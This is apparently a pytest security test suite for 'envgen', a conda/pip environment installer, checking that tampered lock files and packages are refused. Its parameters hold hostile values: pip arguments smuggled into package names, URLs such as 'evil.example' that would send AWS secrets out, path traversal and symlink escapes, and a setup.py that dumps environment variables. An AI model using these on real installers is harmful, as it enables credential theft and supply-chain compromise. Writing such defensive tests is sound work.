"""A lock or a package from a stranger: it may be looked at without danger, and is not installed by surprise.

The locks are genuine ones with a line changed, as a pull request would change it; the packages are genuine but for their metadata.
"""

from __future__ import annotations

import hashlib
import io
import json
import re
import shutil
import sys
import tarfile
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
import zstandard
from conftest import Run, Workspace, clean_environment, repository
from system.channel import Server, serve
from system.stand_in import MINOR, SITE, SUBDIR, Package, channel, pip_package, python_module, python_package
from system.test_wheels import index_of, wheel

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the packages that run are made for Linux")

SECRET = "wJalrXUtnFEMI"
KEY = {"AWS_SECRET_ACCESS_KEY": SECRET}


def source(folder: Path, name: str, version: str, seen: Path) -> None:
    """A source package whose setup.py writes its environment variables to a file."""
    setup = f"import json, os\nfrom setuptools import setup\njson.dump(dict(os.environ), open({str(seen)!r}, 'w'))\nsetup(name={name!r}, version={version!r}, py_modules=[])\n"
    with tarfile.open(folder / f"{name}-{version}.tar.gz", "w:gz") as archive:
        for path, text in {
            "setup.py": setup,
            "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        }.items():
            member = tarfile.TarInfo(f"{name}-{version}/{path}")
            member.size = len(text)
            archive.addfile(member, io.BytesIO(text.encode()))


@dataclass(frozen=True)
class Site:
    """A repository with one project `p` and its lock; `server` has what it names."""

    workspace: Workspace
    server: Server
    files: Mapping[str, bytes]
    seen: Path

    @property
    def lock(self) -> Path:
        return self.workspace.root / "environments/p/cpu/conda-lock.yml"

    @property
    def prefix(self) -> Path:
        return self.workspace.root / ".envs" / "p-cpu"

    def change(self, pattern: str, new: str) -> None:
        """Change a text in the lock, which then is no lock of envgen's any more: its stamp goes."""
        text = re.sub(r"  custom_metadata:\n(    .*\n)+", "", self.lock.read_text())
        changed = re.sub(pattern, lambda _: new, text, count=1)
        assert changed != text
        self.lock.write_text(changed)

    def install(self, *words: object, **variables: str) -> Run:
        done = self.workspace.envgen("install", "p", "--target", "cpu", *words, **{**KEY, **variables})
        assert "Traceback" not in done.err
        assert SECRET not in done.err + done.out
        return done

    def refuses(self, *said: str, **variables: str) -> str:
        """Nothing was fetched, and nothing is there; what was said."""
        done = self.install(**variables)
        assert (done.status, done.out, self.prefix.exists(), self.server.requests) == (2, "", False, []), done.err
        assert [word for word in said if word not in done.err] == [], done.err
        return done.err


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    top = tmp_path_factory.mktemp("strangers")
    channel(top / "www" / "c", (python_package(), pip_package(), python_module("alpha", "1.0")))
    wheel(top / "www" / "simple" / "tinyops", "tinyops", "1.0")
    index_of(top / "www" / "simple")
    source(top / "www", "tinysrc", "1.0", top / "seen.json")
    site = repository(top / "site", clean_environment(top))
    with serve(top / "www") as server:
        site.project(
            "p",
            f'python: "{MINOR}.*"\ntargets: [cpu]\nplatforms: [{SUBDIR}]\nchannels: ["{server.url("c")}"]\n'
            f'dependencies: [pip, alpha]\npip: ["tinyops ==1.0"]\npip-repositories: ["{server.url("simple")}"]\n',
        )
        done = site.envgen("lock")
        assert done.status == 0, done.err
        yield Site(site, server, site.files(), top / "seen.json")


@pytest.fixture
def site(world: Site, tmp_path: Path) -> Site:
    environment = {**clean_environment(tmp_path), "ENVGEN_CACHE": world.workspace.environment["ENVGEN_CACHE"]}
    made = replace(world, workspace=repository(tmp_path / "site", environment))
    made.workspace.restore(world.files)
    world.server.requests.clear()
    world.seen.unlink(missing_ok=True)
    return made


# --- names and urls --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "new"),
    [
        (r"name: tinyops", r'name: "tinyops\n--index-url http://evil.example/simple"'),
        (r"name: tinyops", r'name: "tinyops --extra-index-url http://evil.example/simple"'),
        (r"name: alpha", "name: ../../alpha"),
        (r"name: alpha", r'name: "alpha\e[2J"'),
        (r"version: '1.0'", r'version: "1.0\n::error::x"'),
        (r"version: '1.0'", "version: 1/../../../x"),
        (r"platform: " + SUBDIR, r'platform: "linux-64\n::error::x"'),
        (r"url: (http://\S+/c)\n", r'url: "http://x/c\n::error::x"'),
        (r"url: (http://\S+/c)\n", "url: http://[x/c"),
        (r"url: \S+alpha-1.0", "url: http://[x/alpha-1.0"),
        (r"url: \S+alpha-1.0", "url: http://x:y/alpha-1.0"),
    ],
)
def test_a_text_that_cannot_be_what_it_stands_for_is_bad_input_everywhere(site: Site, pattern: str, new: str) -> None:
    site.change(pattern, new)
    said = site.refuses("environments/p/cpu/conda-lock.yml")
    verified = site.workspace.envgen("verify", site.lock)
    assert verified.status == 2
    for text in (said, verified.err):
        assert "\x1b" not in text
        assert not re.search(r"^\s*(::|--)", text, re.MULTILINE)


@pytest.mark.parametrize(
    ("pattern", "new"),
    [
        (r"url: \S+(?=/tinyops/)", "url: ftp://x.example/simple"),
        (r"url: \S+(?=alpha-1.0)", "url: http://127.0.0.1:9/c/noarch/../noarch/"),
        (r"url: \S+(?=alpha-1.0)", "url: http://127.0.0.1:9/c/noarch/%2e%2e/noarch/"),
        (r"url: \S+(?=alpha-1.0)", "url: http://127.0.0.1:9\\@x.example/c/noarch/"),
        (r"url: \S+(?=alpha-1.0)", "url: http://127.0.0.1:9/{c}/noarch/"),
        (r"url: \S+alpha-1.0\S+", "url: http://127.0.0.1:9/alpha"),
        (r"url: \S+alpha-1.0\S+", "url: http://127.0.0.1:9/c/noarch/alpha-1.0-0.zip"),
        (r"url: (\S+tinyops\S+)", "url: 'http://127.0.0.1:9/tinyops-1.0-py3-none-any.whl --global-option=x'"),
    ],
)
def test_a_url_that_tools_may_read_in_another_way_is_refused(site: Site, pattern: str, new: str) -> None:
    site.change(pattern, new)
    site.refuses("not the URL of a package")


def test_a_package_from_a_channel_that_the_project_does_not_use_is_not_fetched(site: Site) -> None:
    """Not even if the lock itself names the channel."""
    text = site.lock.read_text().replace(site.server.url("c"), site.server.url("evil"))
    site.lock.write_text(text)
    site.lock.write_text(re.sub(r"  custom_metadata:\n(    .*\n)+", "", text))
    site.refuses("foreign-channel", "alpha 1.0")


def test_a_url_for_another_package_is_not_fetched(site: Site) -> None:
    site.change(r"(?<=/)alpha-1.0", "beta-1.0")
    site.refuses("url-mismatch", "its url is for beta 1.0")


def test_a_hash_that_is_none_is_not_a_traceback(site: Site) -> None:
    site.change(r"sha256: \w+", "sha256: nonsense")
    site.refuses("no-hash", "its sha256 is not valid: nonsense")


def test_packages_that_only_an_md5_protects_are_said(site: Site) -> None:
    site.change(r"    sha256: \w+\n  category", "  category")
    done = site.install("--dry-run")
    assert done.status == 0, done.err
    assert "p-cpu: warning: weak-hash: alpha 1.0" in done.err


# --- variables -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "new"),
    [
        (r"url: http://(?=\S+tinyops)", "url: http://${AWS_SECRET_ACCESS_KEY}@"),
        (r"url: http://\S+?/(?=\S*tinyops)", "url: http://127.0.0.1:9/${AWS_SECRET_ACCESS_KEY}/"),
        (r"url: http://\S+/c\n", "url: http://${AWS_SECRET_ACCESS_KEY}@127.0.0.1:9/c\n"),
        (r"url: http://\S+/c\n", "url: http://127.0.0.1:9/t/$AWS_SECRET_ACCESS_KEY/c\n"),
        (r"url: \S+(?=/noarch/alpha)", "url: http://127.0.0.1:9/$AWS_SECRET_ACCESS_KEY/c"),
    ],
)
def test_a_lock_cannot_send_a_variable_that_the_project_does_not_use(site: Site, pattern: str, new: str) -> None:
    site.change(pattern, new)
    site.refuses("would send the environment variable ${AWS_SECRET_ACCESS_KEY}")


def test_a_variable_of_the_project_is_not_sent_to_another_host(site: Site) -> None:
    project = site.lock.parent.parent / "project.yaml"
    project.write_text(project.read_text().replace("http://127.0.0.1", "http://$AWS_SECRET_ACCESS_KEY@127.0.0.1"))
    site.change(r"url: http://\S+?/(?=\S*tinyops)", "url: http://${AWS_SECRET_ACCESS_KEY}@127.0.0.1.evil.example/")
    site.refuses("would send the environment variable ${AWS_SECRET_ACCESS_KEY}")


def test_a_variable_in_a_path_is_filled_in_for_lock_and_install_and_shown_nowhere(site: Site, tmp_path: Path) -> None:
    """Not when all goes well, nor when the channel fails."""
    shutil.copytree(site.server.folder / "c", tmp_path / "www" / SECRET / "c")
    with serve(tmp_path / "www") as server:
        site.workspace.project(
            "p",
            f'python: "{MINOR}.*"\ntargets: [cpu]\nplatforms: [{SUBDIR}]\n'
            f'channels: ["{server.url("$AWS_SECRET_ACCESS_KEY/c")}"]\ndependencies: [alpha]\n',
        )
        for words in (("lock",), ("lock", "--offline", "--update"), ("lock", "--update", "--json")):
            done = site.workspace.envgen(*words, **KEY)
            assert done.status == 0, done.err
            assert SECRET not in done.err + done.out
        fresh = {"ENVGEN_CACHE": str(tmp_path / "cache")}
        assert site.install(**fresh).status == 0
        shutil.rmtree(site.prefix)
        shutil.rmtree(tmp_path / "cache")
        shutil.rmtree(tmp_path / "www" / SECRET / "c" / "noarch")
        failed = site.install(**fresh)
    assert failed.status == 4
    assert server.url("$AWS_SECRET_ACCESS_KEY/c") in failed.err
    for path in (*site.workspace.root.rglob("*"), *(tmp_path / "cache").rglob("*")):
        assert not path.is_file() or SECRET.encode() not in path.read_bytes(), path
        assert SECRET not in path.name


def test_a_private_index_is_opened_and_its_password_is_shown_nowhere(site: Site, tmp_path: Path) -> None:
    """pip gets the variables that the project uses for its index, and no other."""
    login = {"PIP_LOGIN": "alice", **KEY}
    with serve(site.server.folder, login=("alice", SECRET)) as server:
        place = server.url("@@").replace("http://", "http://$PIP_LOGIN:$AWS_SECRET_ACCESS_KEY@")
        text = (
            f'python: "{MINOR}.*"\ntargets: [cpu]\nplatforms: [{SUBDIR}]\nchannels: ["{place.replace("@@", "c")}"]\n'
            f'dependencies: [pip]\npip: ["tinyops ==1.0"]\npip-repositories: ["{place.replace("@@", "simple")}"]\n'
        )
        site.workspace.project("p", text)
        locked = site.workspace.envgen("lock", **login)
        assert locked.status == 0, locked.err
        assert "${AWS_SECRET_ACCESS_KEY}" in site.lock.read_text()
        done = site.install(PIP_LOGIN="alice", ENVGEN_CACHE=str(tmp_path / "cache"))
        assert done.status == 0, done.err
        shutil.rmtree(site.prefix)
        server.login = ("alice", "another")
        failed = [
            site.install(PIP_LOGIN="alice"),
            site.workspace.envgen("lock", "--update", "--pin-with", "conda-lock", **login),
        ]
        unset = [
            site.workspace.envgen("lock", "--update", PIP_LOGIN="alice"),
            site.workspace.envgen("install", "p", "--target", "cpu"),
        ]
    assert [run.status for run in (*failed, *unset)] == [4, 4, 2, 2], [run.err for run in (*failed, *unset)]
    for run in (locked, done, *failed, *unset):
        assert SECRET not in run.err + run.out
    assert all("which is not set" in run.err for run in unset)
    for path in site.workspace.root.rglob("*"):
        assert not path.is_file() or SECRET.encode() not in path.read_bytes(), path


# --- code that runs ---------------------------------------------------------------------------------------------------------


def of_source(site: Site) -> None:
    """Let the lock name a source package in the place of the wheel."""
    url = site.server.url("tinysrc-1.0.tar.gz")
    data = (site.server.folder / "tinysrc-1.0.tar.gz").read_bytes()
    site.change(r"(?s)- name: tinyops.*?    sha256: \w+", "@@")
    entry = f"- name: tinysrc\n  version: '1.0'\n  manager: pip\n  platform: {SUBDIR}\n  dependencies: {{}}\n  url: {url}\n  hash:\n    sha256: {hashlib.sha256(data).hexdigest()}"
    site.lock.write_text(site.lock.read_text().replace("@@", entry))


def test_what_is_not_a_wheel_is_not_installed_unless_it_is_allowed_by_name(site: Site) -> None:
    of_source(site)
    site.refuses("tinysrc 1.0 is not a wheel", "--allow-build tinysrc")
    assert site.install("--allow-build", "tinyops").status == 2
    assert not site.seen.exists()


def test_what_is_allowed_is_built_without_the_variables_of_the_user(site: Site) -> None:
    """pip builds where setuptools is; it cannot be fetched here, but pip asks for it with the variables that a build would get."""
    of_source(site)
    (site.workspace.root / "pip.conf").write_text("")
    log = site.workspace.root / "seen"
    spy(site, log)
    done = site.install("--allow-build", "tinysrc", GITHUB_TOKEN="ghp_x", HTTPS_PROXY="http://proxy.example")
    assert log.exists(), done.err
    seen = json.loads(log.read_text())
    assert not {"AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "ENVGEN_CACHE", "PYTHONPATH"} & seen.keys()
    assert seen["HTTPS_PROXY"] == "http://proxy.example"


def spy(site: Site, log: Path) -> None:
    """Install without pip's part first; then put a pip into the environment that writes down its variables."""
    text = site.lock.read_text()
    site.lock.write_text(re.sub(r"(?s)- name: tinysrc.*?  optional: false\n", "", text))
    assert site.install().status == 0
    site.lock.write_text(text)
    main = site.prefix / SITE / "pip" / "__main__.py"
    size = main.stat().st_size
    program = f"import json, os\njson.dump(dict(os.environ), open({str(log)!r}, 'w'))\nraise SystemExit(1)\n"
    main.unlink()
    for compiled in main.parent.glob("__pycache__/__main__.*"):
        compiled.unlink()
    main.write_text(program.ljust(size - 1, "#") + "\n")


@pytest.mark.parametrize("claimed", ["../../../../precious.txt", "{}/precious.txt"])
def test_a_wheel_that_claims_a_file_outside_the_environment_is_refused(site: Site, tmp_path: Path, claimed: str) -> None:
    """pip would remove that file when it removes the package."""
    precious = site.prefix.parent / "precious.txt"
    precious.parent.mkdir()
    precious.write_text("x")
    wheel(tmp_path / "www", "tinyops", "1.0")
    path = tmp_path / "www" / "tinyops-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, f"{claimed.format(precious.parent)},," if name.endswith("RECORD") else data)
    with serve(tmp_path / "www") as server:
        site.change(r"url: \S+(?=tinyops-1.0)", f"url: {server.url('')}")
        old = hashlib.sha256((site.server.folder / "simple/tinyops/tinyops-1.0-py3-none-any.whl").read_bytes()).hexdigest()
        site.change(old, hashlib.sha256(path.read_bytes()).hexdigest())
        done = site.install()
    assert done.status == 1, done.err
    assert "pip package tinyops claims a file outside the environment" in done.err
    assert (site.prefix.exists(), precious.read_text()) == (False, "x")


# --- what packages contain ----------------------------------------------------------------------------------------------------

Metadata = dict[str, Any]


def retold(archive: Path, change: Callable[[Metadata], None]) -> None:
    """Change the metadata in a package: info/*.json by their names."""
    with zipfile.ZipFile(archive) as whole:
        parts = {name: whole.read(name) for name in whole.namelist()}
    inside = next(name for name in parts if name.startswith("info-"))
    packed = zstandard.ZstdDecompressor().decompressobj().decompress(parts[inside])
    with tarfile.open(fileobj=io.BytesIO(packed)) as source_:
        files = {member.name: file.read() for member in source_.getmembers() if (file := source_.extractfile(member))}
    told = {name: json.loads(data) for name, data in files.items() if name.endswith(".json")}
    change(told)
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w") as target:
        for name, data in {**files, **{name: json.dumps(value).encode() for name, value in told.items()}}.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            target.addfile(member, io.BytesIO(data))
    parts[inside] = zstandard.compress(content.getvalue())
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_STORED) as whole:
        for name, data in parts.items():
            whole.writestr(name, data)


def moved(path: str) -> Callable[[Metadata], None]:
    """Let the first file of a package be one at `path`."""

    def change(told: Metadata) -> None:
        told["info/paths.json"]["paths"][0]["_path"] = path

    return change


def script(point: str) -> Callable[[Metadata], None]:
    """Give a package a script."""

    def change(told: Metadata) -> None:
        told["info/link.json"] = {"noarch": {"type": "python", "entry_points": [point]}, "package_metadata_version": 1}

    return change


def told_folder(told: Metadata) -> None:
    told["info/index.json"]["python_site_packages_path"] = "../../escaped"


PLAIN = Package("plain", "1.0", "h0123456_0", subdir=SUBDIR, files={"share/plain/x.txt": "x\n"})
DECENT = Package("decent", "1.0", "h0123456_0", subdir=SUBDIR, files={"share/absolute": Path("/proc/mounts"), "lib/y": "y\n"})


@pytest.mark.parametrize(
    ("package", "change", "said"),
    [
        (PLAIN, moved("../escaped.txt"), "it would write outside the environment: '../escaped.txt'"),
        (PLAIN, moved("share/../../escaped.txt"), "it would write outside the environment"),
        (PLAIN, moved("/tmp/envgen-escaped.txt"), "it would write outside the environment: '/tmp/envgen-escaped.txt'"),
        (PLAIN, moved(""), "it would write outside the environment: '.'"),
        (PLAIN, moved("conda-meta/alpha-1.0-pyh1234567_0.json"), "it would write what installers record"),
        (PLAIN, moved("./conda-meta//envgen"), "it would write what installers record"),
        (PLAIN, moved("."), "it would write outside the environment: '.'"),
        (
            python_module("tool", "1.0", "def main(): 0\n", script=True),
            script("../../escaped = tool:main"),
            "it would write a script",
        ),
        (
            python_module("tool", "1.0", "def main(): 0\n", script=True),
            script("/tmp/escaped = tool:main"),
            "it would write a script",
        ),
        (python_package(), told_folder, "its folder for packages is outside the environment"),
    ],
)
def test_a_package_that_would_write_outside_the_environment_is_refused_before_it_is_linked(
    site: Site, tmp_path: Path, package: Package, change: Callable[[Metadata], None], said: str
) -> None:
    folder = tmp_path / "www" / "c"
    channel(folder, (package,) if package.name == "python" else (python_package(), package))
    retold(folder / package.subdir / f"{package.name}-{package.version}-{package.build}.conda", change)
    done = locked_and_installed(site, tmp_path, package.name)
    assert done.status == 1, done.err
    assert said in done.err
    assert not site.prefix.exists()
    assert [path for path in tmp_path.rglob("*escaped*") if "www" not in path.parts] == []
    assert not Path("/tmp/envgen-escaped.txt").exists()


def locked_and_installed(site: Site, tmp_path: Path, *names: str) -> Run:
    """Lock and install packages of the channel below `tmp_path`."""
    import asyncio

    from rattler.index import index_fs

    folder = tmp_path / "www" / "c"
    for path in folder.rglob("repodata*.json"):
        path.unlink()
    asyncio.run(index_fs(folder, write_zst=False, write_shards=False))
    wanted = ", ".join(names)
    with serve(tmp_path / "www") as server:
        site.workspace.project(
            "p",
            f'python: "{MINOR}.*"\ntargets: [cpu]\nplatforms: [{SUBDIR}]\nchannels: ["{server.url("c")}"]\ndependencies: [{wanted}]\n',
        )
        done = site.workspace.envgen("lock")
        assert done.status == 0, done.err
        return site.install(ENVGEN_CACHE=str(tmp_path / "cache"))


def linking(*links: tuple[str, str], files: tuple[str, ...] = (), name: str = "leads-out", python: bool = False) -> Package:
    """A package of links, and files."""
    content: dict[str, Any] = {**{path: Path(target) for path, target in links}, **dict.fromkeys(files, "x\n")}
    subdir = "noarch" if python else SUBDIR
    return Package(name, "1.0", "h0123456_0", ("python",) if python else (), subdir=subdir, files=content, python=python)


@pytest.mark.parametrize(
    ("packages", "link"),
    [
        ((PLAIN, linking(("share/plain", "../../.."))), "share/plain"),
        ((PLAIN, linking(("share/plain", "/tmp"))), "share/plain"),
        ((PLAIN, linking(("share/Plain", "../../.."))), "share/plain"),
        ((PLAIN, linking(("share/plain", "there"), ("share/there", "../../.."))), "share/plain"),
        ((PLAIN, linking(("share", "there/.."), ("there", "../.."))), "share"),
        ((PLAIN, linking(("share/plain", "there"), ("share/there", "plain"))), "share/plain"),
        (
            (
                linking(files=(f"{SITE}/tool/x.txt",), name="inside"),
                linking(("site-packages/tool", "../../../../.."), python=True),
            ),
            "lib/python/site-packages/tool",
        ),
    ],
)
def test_no_package_writes_through_links_that_lead_outside(
    site: Site, tmp_path: Path, packages: tuple[Package, ...], link: str
) -> None:
    channel(tmp_path / "www" / "c", (python_package(), *packages))
    done = locked_and_installed(site, tmp_path, *(package.name for package in packages))
    assert done.status == 1, done.err
    assert f"through a link that leads outside the environment: {link!r}" in done.err
    assert [path for path in tmp_path.rglob("x.txt") if "cache" not in path.parts] == []


def test_a_link_is_known_whatever_the_metadata_call_it(site: Site, tmp_path: Path) -> None:
    def called_a_file(told: Metadata) -> None:
        for entry in told["info/paths.json"]["paths"]:
            entry["path_type"] = "hardlink"

    package = linking(("share/plain", "/tmp"))
    channel(tmp_path / "www" / "c", (python_package(), PLAIN, package))
    retold(tmp_path / "www" / "c" / SUBDIR / "leads-out-1.0-h0123456_0.conda", called_a_file)
    done = locked_and_installed(site, tmp_path, "plain", "leads-out")
    assert done.status == 1, done.err
    assert "leads outside the environment" in done.err
    assert not Path("/tmp/x.txt").exists()


def test_links_that_lead_outside_are_fine_where_nothing_is_written_through_them(site: Site, tmp_path: Path) -> None:
    channel(tmp_path / "www" / "c", (python_package(), PLAIN, DECENT))
    done = locked_and_installed(site, tmp_path, "plain", "decent")
    assert done.status == 0, done.err
    assert (site.prefix / "share/plain/x.txt").read_text() == "x\n"
